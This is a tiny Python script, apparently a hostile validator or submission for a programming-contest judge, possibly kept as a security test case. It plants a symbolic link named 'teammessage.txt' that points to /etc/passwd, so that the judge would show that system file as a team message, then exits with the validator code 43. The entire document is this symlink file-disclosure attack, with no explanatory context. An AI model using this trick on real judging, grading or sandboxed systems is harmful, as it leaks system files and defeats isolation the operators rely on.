import os, sys

os.symlink("/etc/passwd", sys.argv[3] + "teammessage.txt")
sys.exit(43)
